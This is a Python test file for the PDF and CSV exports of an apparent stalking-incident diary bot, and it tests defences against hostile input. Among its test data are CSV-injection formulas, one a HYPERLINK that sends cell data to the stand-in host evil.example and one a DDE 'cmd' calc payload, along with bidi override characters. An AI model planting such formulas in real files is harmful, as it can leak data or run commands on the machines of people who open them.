"""The PDF and CSV exports, and the weekly chart data."""

from __future__ import annotations

import csv
import dataclasses
import io
import os
import re
import tempfile
from datetime import date, datetime, timezone
from pathlib import Path

import pytest
from pypdf import PdfReader

from bot.diary.export import CSV_COLUMNS, export_csv, export_pdf, pdf_text, render_chart_png, weekly_counts
from bot.diary.kinds import kind_label, kind_labels
from bot.diary.store import TEXT_FIELDS, DiaryStore, Note, NoteFields

from .sample import sample_notes

GENERATED = datetime(2024, 4, 10, 15, 0, tzinfo=timezone.utc)


def note(i: int, when: datetime, kind: str | None = "following", **text: str) -> Note:
    return Note(id=i, occurred_at=when, created_at=when, updated_at=when, kind=kind, **text)


def pdf_pages(pdf: bytes) -> list[str]:
    return [re.sub(r"\s+", " ", page.extract_text() or "") for page in PdfReader(io.BytesIO(pdf)).pages]


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


# ------------------------------------------------------------------ kinds


#: Each kind as the police and the user read it in the export (written out, not read from data/note.yml).
KIND_LABELS = {
    "turning_up": "Turning up at home or work",
    "following": "Following",
    "contacting": "Calls, texts or emails",
    "gifts": "Unwanted gifts or messages",
    "monitoring": "Monitoring social media",
    "damage_threats": "Damage or threats",
    "other": "Other",
}


def test_each_kind_is_labelled_in_words_in_the_csv_and_the_pdf() -> None:
    notes = [note(i, datetime(2024, 3, 1 + i, 12, 0, tzinfo=timezone.utc), kind)
             for i, kind in enumerate(KIND_LABELS)]
    rows = csv_rows(export_csv(notes))
    assert [(r["kind"], r["kind_label"]) for r in rows] == list(KIND_LABELS.items())
    text = " ".join(pdf_pages(export_pdf(notes, GENERATED)))
    for label in KIND_LABELS.values():
        assert label in text, label
    assert set(kind_labels()) == set(KIND_LABELS)  # a new kind needs its words checked here
    assert kind_label(None) == "Other" and kind_label("retired-kind") == "Other"


# ------------------------------------------------------------------ weekly chart data


def test_weekly_counts_of_the_sample() -> None:
    weekly = weekly_counts(sample_notes())
    assert weekly.weeks == [
        date(2024, 3, 4),
        date(2024, 3, 11),
        date(2024, 3, 18),
        date(2024, 3, 25),
        date(2024, 4, 1),
    ]
    assert weekly.kinds == [
        "turning_up",
        "following",
        "contacting",
        "gifts",
        "monitoring",
        "damage_threats",
        "other",
    ]
    assert weekly.counts == {
        "turning_up": [1, 0, 0, 0, 1],
        "following": [0, 0, 1, 0, 0],
        "contacting": [1, 1, 0, 0, 0],
        "gifts": [0, 1, 0, 0, 0],
        "monitoring": [0, 1, 0, 0, 0],
        "damage_threats": [0, 0, 1, 0, 0],
        "other": [0, 0, 1, 0, 0],
    }
    assert weekly.totals() == [2, 3, 3, 0, 1]


def test_weeks_run_monday_to_sunday_in_uk_time() -> None:
    sunday_late_utc = datetime(2024, 6, 9, 23, 30, tzinfo=timezone.utc)  # Monday 00:30 BST
    sunday_evening = datetime(2024, 6, 9, 21, 0, tzinfo=timezone.utc)  # Sunday 22:00 BST
    winter_sunday_late = datetime(2024, 1, 14, 23, 30, tzinfo=timezone.utc)  # still Sunday in GMT
    weekly = weekly_counts([note(1, sunday_late_utc), note(2, sunday_evening, "gifts")])
    assert weekly.weeks == [date(2024, 6, 3), date(2024, 6, 10)]
    assert weekly.counts == {"following": [0, 1], "gifts": [1, 0]}
    assert weekly_counts([note(1, winter_sunday_late)]).weeks == [date(2024, 1, 8)]
    assert weekly_counts([note(1, sunday_late_utc)], tz="UTC").weeks == [date(2024, 6, 3)]


def test_weekly_counts_empty_and_unknown_kinds() -> None:
    assert weekly_counts([]).weeks == []
    weekly = weekly_counts([note(1, GENERATED, None), note(2, GENERATED, "retired-kind")])
    assert weekly.kinds == ["other"] and weekly.counts == {"other": [2]}


def test_chart_renders_a_png() -> None:
    png = render_chart_png(weekly_counts(sample_notes()))
    assert png.startswith(b"\x89PNG\r\n\x1a\n") and len(png) > 5_000


# ------------------------------------------------------------------ text for the PDF


def test_pdf_text_keeps_what_the_font_can_show_and_names_the_rest() -> None:
    assert pdf_text("I didn’t go — “scared” مرحبا é ß Ж") == "I didn’t go — “scared” مرحبا é ß Ж"
    assert pdf_text("tab\there\r\nnext\x00\x07line") == "tab    here\nnextline"
    shown = pdf_text("flowers 🌹 car 🚗 thumbs 👍🏽 heart ❤️ 家")
    assert "[rose]" in shown and "[automobile]" in shown and "[cjk unified ideograph-5bb6]" in shown
    assert "\ufe0f" not in shown and "\U0001f3fd" not in shown
    assert pdf_text("private \ue000 use") == "private [U+E000] use"


# ------------------------------------------------------------------ PDF


def test_pdf_of_the_sample(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    pdf = export_pdf(sample_notes(), GENERATED, user_label="Jane Doe")
    assert pdf.startswith(b"%PDF-") and list(tmp_path.iterdir()) == []  # made in memory, no file
    reader = PdfReader(io.BytesIO(pdf))
    assert len(reader.pages) >= 4
    # Neutral title (issue 15): the file's properties and the first page don't give the person away.
    assert reader.metadata is not None and reader.metadata.title == "Notes"
    pages = pdf_pages(pdf)
    cover = pages[0]
    assert cover.startswith("Notes") and "Prepared by: Jane Doe" in cover
    assert "stalking" not in cover.split("Prepared by")[0].lower()
    assert "Incidents recorded: 9" in cover and "From 4 March 2024 to 4 April 2024" in cover
    assert (
        "Turning up at home or work 2" in cover and "Calls, texts or emails 2" in cover and "Other 1" in cover
    )
    assert "Document generated: Wed 10 Apr 2024, 16:00 BST" in cover
    assert "at or near the time" in cover
    assert "Incidents per week" in pages[1]
    body = " ".join(pages[1:])
    for fragment in (
        "Incident 1 of 9",
        "Incident 9 of 9",
        "Mon 4 Mar 2024, 08:15 GMT",
        "Thu 4 Apr 2024, 12:15 BST",
        "He rang 14 times",
        "Silver Ford Focus, plate AB12 CDE",
        "Sam (colleague), 07700 900456",
        "Crime ref 13/123456/24, PC 1234 Jones",
        "What happened",
        "Witnesses and how to reach them",
        "(not recorded)",
        "evidence-1.pdf",
        "unnamed photo",
        "I didn’t go to my 10am class",
        "[rose]",
        "last changed",
    ):
        assert fragment in body, fragment
    assert body.index("Incident 1 of 9") < body.index("Incident 2 of 9") < body.index("Incident 9 of 9")


def test_pdf_shows_text_as_written_and_survives_any_unicode() -> None:
    when = datetime(2024, 5, 1, 9, 0, tzinfo=timezone.utc)
    weird = note(
        1,
        when,
        "other",
        what_happened=(
            "**not bold** <b>not html</b> __x__ {nb} # heading? \\n 100% $5 🙂🙂 家 "
            "\u200d \U0001f468\u200d\U0001f469"
        ),
        place="x" * 4000,
        feelings="مرحبا، أنا أراقبك " * 50,
        evidence="https://example.invalid/" + "a" * 300,
    )
    arabic_across_a_page_break = note(2, when, "contacting", what_happened="مرحبا، أنا أراقبك " * 400)
    pdf = export_pdf([weird, arabic_across_a_page_break], GENERATED, user_label="Zoë 🙂 O’Neill")
    pages = pdf_pages(pdf)
    for number, page in enumerate(pages, start=1):
        assert f"Notes - page {number} of {len(pages)}" in page
    text = " ".join(pages)
    assert "**not bold** <b>not html</b> __x__" in text
    assert "100% $5" in text
    assert "{nb} # heading? \\n" in text  # fpdf2's page-count alias in user text stays as written


def test_pdf_with_no_notes() -> None:
    pages = pdf_pages(export_pdf([], GENERATED))
    assert len(pages) == 1 and "No incidents have been recorded yet" in pages[0]


def test_pdf_needs_an_aware_generated_at() -> None:
    with pytest.raises(ValueError):
        export_pdf([], datetime(2024, 1, 1))


# ------------------------------------------------------------------ CSV


def test_csv_round_trips(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    tricky = {
        "place": '12, High Street, "the flat"',
        "what_happened": 'Line one, with comma\nLine "two" 😢\r\nthree; ’ مرحبا',
        "witnesses": "Sam = my sister",
        "evidence": "",
    }
    notes = [note(2, datetime(2024, 6, 1, 20, 15, tzinfo=timezone.utc), "contacting", **tricky)]
    notes += sample_notes()
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    raw = export_csv(notes)
    assert list(tmp_path.iterdir()) == []  # made in memory, no file
    assert not raw.startswith(b"\xef\xbb\xbf")
    rows = csv_rows(raw)
    assert tuple(rows[0].keys()) == CSV_COLUMNS
    assert len(rows) == len(notes)
    ordered = sorted(notes, key=lambda n: (n.occurred_at, n.id))
    for row, original in zip(rows, ordered, strict=False):
        assert int(row["id"]) == original.id
        assert datetime.fromisoformat(row["occurred_at"]) == original.occurred_at
        assert datetime.fromisoformat(row["created_at"]) == original.created_at
        assert row["kind"] == (original.kind or "")
        for name in TEXT_FIELDS:
            assert row[name] == (getattr(original, name) or ""), name
        assert int(row["attachment_count"]) == original.attachment_count
    last = rows[-1]
    assert last["occurred_at"] == "2024-06-01T21:15:00+01:00"  # UK time, with its offset
    assert last["kind_label"] == "Calls, texts or emails"
    assert last["place"] == tricky["place"] and last["what_happened"] == tricky["what_happened"]
    assert rows[0]["attachment_names"] == "unnamed photo; evidence-1.pdf"


def test_csv_with_no_notes_has_the_header() -> None:
    assert export_csv([]) == ",".join(f'"{c}"' for c in CSV_COLUMNS).encode() + b"\r\n"


# ------------------------------------------------------------------ from the store


def test_export_of_what_the_store_returns(store: DiaryStore) -> None:
    for fields in sample_notes():
        saved = store.add_note("alice", fields.fields())
        if fields.attachments:
            store.add_attachment("alice", saved.id, "photo", "f", "door.jpg", "image/jpeg", b"jpeg")
    store.add_note("bob", NoteFields(occurred_at=GENERATED, what_happened="BOB-ONLY incident"))
    notes = store.all_notes("alice")
    text = " ".join(pdf_pages(export_pdf(notes, GENERATED)))
    assert "Incident 9 of 9" in text and "door.jpg" in text and "BOB-ONLY" not in text
    table = export_csv(notes)
    assert b"BOB-ONLY" not in table
    rows = csv_rows(table)
    assert [r["what_happened"] for r in rows] == [n.what_happened or "" for n in sample_notes()]
    assert dataclasses.asdict(notes[0].fields()) == dataclasses.asdict(sample_notes()[0].fields())


# ------------------------------------------------------------------ hostile text in exports

FORMULAS = {
    "place": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "what_happened": "+44 7700 900123 rang me",
    "how_detail": "-2+3",
    "appearance": "@SUM(A1:A9)",
    "witnesses": "\t=1+1",
    "feelings": "\r=cmd|' /C calc'!A0",
    "evidence": "  =1+1, with a comma so the cell is quoted",
    "police_ref": "\uff1d1+1",  # a full-width equals sign: some spreadsheets read it as "="
}


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised() -> None:
    """OWASP's CSV injection advice: a cell starting with = + - @ tab or CR gets a leading
    single quote (inside the quotes too), and every cell is quoted."""
    notes = [
        note(1, datetime(2024, 6, 1, 20, 15, tzinfo=timezone.utc), "contacting", **FORMULAS),
        note(2, datetime(2024, 6, 2, 20, 15, tzinfo=timezone.utc), "contacting",
             what_happened="He said 2+2=4 and left; nothing to neutralise @ here"),
    ]
    raw = export_csv(notes).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    for name, value in FORMULAS.items():
        assert rows[0][name] == "'" + value, name  # read back as text, every character kept
    assert rows[1]["what_happened"] == "He said 2+2=4 and left; nothing to neutralise @ here"
    for line in raw.split("\r\n")[1:2]:
        assert line.startswith('"'), "every cell is quoted"
    assert '"\'=HYPERLINK(' in raw and '"\'  =1+1, with a comma' in raw


BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"


def test_bidi_controls_cannot_reverse_text_in_the_pdf() -> None:
    """A right-to-left override in a note would show "0001" as "1000" and "LIAM NHOJ"
    as "JOHN MAIL" in the PDF; the export drops bidi controls, so text reads as written."""
    when = datetime(2024, 3, 4, 10, 0, tzinfo=timezone.utc)
    hostile = note(1, when, "following",
                   what_happened=("مرحبا He owes me \u202e0001\u202c pounds. "
                                  "Signed: \u202eLIAM NHOJ\u202c end"),
                   place="\u2067right\u2069 and \u202bembed\u202c \u200fmark\u200e")
    text = " ".join(pdf_pages(export_pdf([hostile], when)))
    assert "0001" in text and "1000" not in text
    assert "LIAM NHOJ" in text and "JOHN MAIL" not in text
    assert not set(BIDI) & set(text)
    assert "right and embed mark" in text


def test_bidi_controls_are_dropped_from_the_csv() -> None:
    when = datetime(2024, 3, 4, 10, 0, tzinfo=timezone.utc)
    hostile = note(1, when, "following", what_happened="owes me \u202e0001\u202c pounds",
                   place="\u2066=1+1\u2069")
    raw = export_csv([hostile]).decode("utf-8")
    assert not set(BIDI) & set(raw)
    row = next(csv.DictReader(io.StringIO(raw)))
    assert row["what_happened"] == "owes me 0001 pounds"
    assert row["place"] == "'=1+1"  # hiding a formula behind an isolate does not help


# ------------------------------------------------------------------ export folders older versions left


def _leftover(root: Path, name: str, files: dict[str, bytes], age: float) -> Path:
    import time

    folder = root / name
    folder.mkdir(mode=0o700)
    for filename, data in files.items():
        (folder / filename).write_bytes(data)
    old = time.time() - age
    for path in [*folder.iterdir(), folder]:
        os.utime(path, (old, old))
    return folder


def test_export_folders_left_by_a_crash_are_swept(tmp_path: Path) -> None:
    """Folders a crash left while an older version wrote exports to disk (exports are bytes now)."""
    from bot.diary.export import sweep_export_folders

    root = tmp_path / "exports"
    root.mkdir()
    hour = 3600.0
    crashed = _leftover(root, "export-ab12cd_3", {"incident-log-2024-03-04.pdf": b"%PDF secret",
                                                  "incident-log-2024-03-04.csv": b"secret"}, 2 * hour)
    half = _leftover(root, "export-zz99yy00", {"incident-log-2024-03-04.pdf": b"%PDF"}, 2 * hour)
    plan = _leftover(root, "plan-q1w2e3r4", {"safety-plan.pdf": b"%PDF"}, 2 * hour)
    # the neutral names of the last version that wrote folders
    neutral = _leftover(root, "export-n3utr4l0", {"notes-2026-11-28.pdf": b"%PDF secret",
                                                  "notes-2026-11-28.csv": b"secret"}, 2 * hour)
    neutral_plan = _leftover(root, "plan-n3utr4l0", {"plan-2026-11-28.pdf": b"%PDF"}, 2 * hour)
    empty = _leftover(root, "export-emptyfol", {}, 2 * hour)
    in_flight = _leftover(root, "export-justnow1", {"incident-log-2024-03-04.pdf": b"%PDF"}, 5.0)
    not_ours = _leftover(root, "export-other123", {"report.xlsx": b"someone else's"}, 2 * hour)
    unrelated = _leftover(root, "holiday-photos", {"a.jpg": b"jpg"}, 2 * hour)
    assert sweep_export_folders(root) == 6
    assert not crashed.exists() and not half.exists() and not plan.exists() and not empty.exists()
    assert not neutral.exists() and not neutral_plan.exists()
    assert in_flight.exists(), "an export being sent right now (another replica) is left alone"
    assert not_ours.exists() and unrelated.exists()
    assert sweep_export_folders(tmp_path / "missing") == 0


def test_build_core_sweeps_export_folders_at_start_up(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import asyncio

    import bot.app as app
    from bot.settings import Settings

    root = tmp_path / "exports"
    root.mkdir()
    crashed = _leftover(root, "export-crash001", {"incident-log-2024-03-04.pdf": b"%PDF secret"}, 7200.0)
    saved = root / "notes-2024-03-04.pdf"  # an export the console saved where the person asked
    saved.write_bytes(b"%PDF kept")
    os.utime(saved, (0, 0))

    class Engine:
        intents = frozenset()

        async def start(self) -> None: ...

        async def forget(self, user_id: str) -> None: ...

        async def close(self) -> None: ...

    monkeypatch.setattr(app, "build_engine", lambda settings: Engine())
    settings = Settings(database_url=f"sqlite:///{tmp_path / 'db' / 'diary.db'}",
                        diary_key_file=tmp_path / "diary.key", export_dir=root)

    async def start() -> None:
        core = await app.build_core(settings)
        await core.close()
        core.desk.store.close()

    asyncio.run(start())
    assert not crashed.exists()
    assert saved.read_bytes() == b"%PDF kept", "the console's saved exports are the person's to delete"
